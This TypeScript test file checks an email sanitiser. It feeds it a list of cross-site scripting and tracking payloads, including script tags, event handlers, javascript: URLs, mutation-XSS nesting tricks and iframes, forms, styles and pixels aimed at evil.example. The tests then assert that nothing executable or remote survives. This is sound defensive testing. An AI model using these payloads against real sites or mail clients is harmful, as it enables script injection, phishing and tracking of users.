import fc from "fast-check";
import { buildEmails } from "@/data/email";
import { safeContent } from "./safe-content";
import { listEmails } from "./service";

/** Parses HTML like a browser, without running anything in it. */
function parsed(html: string) {
  return new DOMParser().parseFromString(safeContent(html), "text/html").body;
}

const HOSTILE = [
  "<script>steal()</script>",
  "<scr<script>ipt>steal()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="steal()">',
  '<img src="https://evil.example/seen.gif" width="1" height="1">',
  '<img src="//evil.example/seen.gif">',
  '<img src="/\\evil.example/seen.gif">',
  '<img srcset="https://evil.example/seen.gif 2x" src="/api/auth/sign-out">',
  '<img src="data:image/svg+xml,<svg onload=steal()>">',
  '<a href="javascript:steal()">Open</a>',
  '<a href=" \u0001java\nscript:steal()">Open</a>',
  '<a href="&#106;avascript:steal()">Open</a>',
  '<a href="data:text/html,<script>steal()</script>">Open</a>',
  '<a href="vbscript:steal()" onclick="steal()">Open</a>',
  '<p style="background:url(https://evil.example/seen.gif)">Hi</p>',
  '<p style="position:fixed;inset:0">Sign in again</p>',
  "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<svg onload="steal()"><a xlink:href="javascript:steal()"><text>Hi</text></a></svg>',
  "<svg><style><img src=x onerror=steal()></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=steal()>'>",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<video src="https://evil.example/seen.mp4" autoplay onplay="steal()"></video>',
  '<audio src="https://evil.example/seen.mp3"></audio>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<body background="https://evil.example/seen.gif" onload="steal()">',
  '<table background="https://evil.example/seen.gif"><tr><td>Hi</td></tr></table>',
  '<p id="root" class="MuiDialog-root" name="cookie">Hi</p>',
  "<template><script>steal()</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  "<textarea></p><script>steal()</script></textarea>",
  "<!--><script>steal()</script-->",
  "<![CDATA[<script>steal()</script>]]>",
  "<div onmouseover=steal()>".repeat(80),
  "\u0000<im\u0000g src=x onerror=steal()>",
  "<x-frame onload=steal()>Hi</x-frame>",
];

const HARMLESS_ATTRIBUTES =
  /^(dir|lang|href|title|target|rel|src|alt|width|height|colspan|rowspan|scope)$/;
const HARMLESS_TAGS =
  /^(p|br|hr|div|span|blockquote|pre|code|b|strong|i|em|u|s|small|su[bp]|h[1-6]|[uod]l|li|d[td]|table|caption|t(head|body|foot|[rhd])|a|img)$/;

/** Returns everything in a mail that could run, load, submit or imitate the product. */
function harmIn(html: string) {
  return [...parsed(html).querySelectorAll("*")].flatMap((element) => [
    ...(HARMLESS_TAGS.test(element.localName) ? [] : [element.localName]),
    ...[...element.attributes].filter(({ name, value }) => {
      if (!HARMLESS_ATTRIBUTES.test(name)) return true;
      if (name === "href") return !/^(https?:|mailto:|tel:|\/(?!\/)|#)/i.test(value);
      return name === "src" && !/^\/(?![/\\])/.test(value);
    }),
  ]);
}

test.each(HOSTILE)("%j is harmless in a sanitised mail", (html) => {
  expect(harmIn(`<p>Before</p>${html}<p>After</p>`)).toEqual([]);
});

test("no mixture of hostile pieces does harm, sanitised once or twice", () => {
  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.constantFrom("<p>", "</p>", "<", ">", '"', "'", "<!--", "-->", "&lt;", "&#x3c;", "</style>"),
    fc.string(),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      const html = pieces.join("");
      expect(harmIn(html)).toEqual([]);
      // A second sanitising must not turn something harmless into something else.
      expect(harmIn(safeContent(html))).toEqual([]);
    }),
  );
});

test("reading a mail loads nothing from other sites or from our API", () => {
  const images = parsed(HOSTILE.join("")).querySelectorAll("img");
  expect([...images].map((image) => image.getAttribute("src"))).toEqual([]);
});

test("harmless HTML is unchanged", () => {
  const harmless =
    '<h2>Friday</h2><p dir="rtl" lang="ar">مرحبا</p><p>5 &lt; 6 &amp; <b>bold</b>, <em>soft</em><br />new line</p>' +
    "<ul><li>one</li></ul><blockquote>said</blockquote><pre>a  b</pre>" +
    '<table><tbody><tr><th scope="row">Doors</th><td colspan="2">19:00</td></tr></tbody></table>' +
    '<img src="/api/pictures/cover/poster" alt="The poster" width="160" height="160" />';
  expect(safeContent(harmless)).toBe(harmless);
});

test("a link opens in a new page without opener or referrer", () => {
  const link = parsed(
    '<a href="https://example.org/list" target="_top">List</a>',
  ).firstElementChild;
  expect(link?.outerHTML).toBe(
    '<a href="https://example.org/list" target="_blank" rel="noopener noreferrer nofollow">List</a>',
  );
});

test("sanitising loses nothing of the sample mails", () => {
  const read = (emails: { emailContent: string }[]) =>
    emails.map(({ emailContent }) => parsed(emailContent).textContent);
  const built = buildEmails().map(({ emailContent }) => emailContent);
  expect(
    listEmails("en").map(({ emailContent }) => emailContent.replaceAll("<br />", "<br>")),
  ).toEqual(built);
  expect(read(listEmails("en")).every((text) => (text?.length ?? 0) > 50)).toBe(true);
});
